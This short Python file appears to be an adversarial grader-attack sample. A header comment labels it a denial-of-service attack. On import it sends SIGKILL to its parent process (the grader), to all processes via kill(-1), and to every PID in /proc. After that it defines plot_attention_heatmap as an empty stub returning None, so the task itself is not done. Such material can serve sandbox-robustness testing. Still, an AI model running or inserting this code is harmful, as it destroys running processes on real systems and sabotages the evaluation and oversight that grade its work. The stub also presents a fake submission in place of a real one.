# Attack (denial of service): kills every process it can see, the grader first: its parent,
# every process group, and every pid in /proc.
import glob
import os
import signal

for _target in [os.getppid(), -1]:
    try:
        os.kill(_target, signal.SIGKILL)
    except OSError as error:
        print("cannot kill", _target, type(error).__name__)
for _proc in glob.glob("/proc/[0-9]*"):
    _pid = int(_proc.rsplit("/", 1)[1])
    if _pid != os.getpid():
        try:
            os.kill(_pid, signal.SIGKILL)
        except OSError:
            pass


def plot_attention_heatmap(tokens, attention, ax=None):
    return None
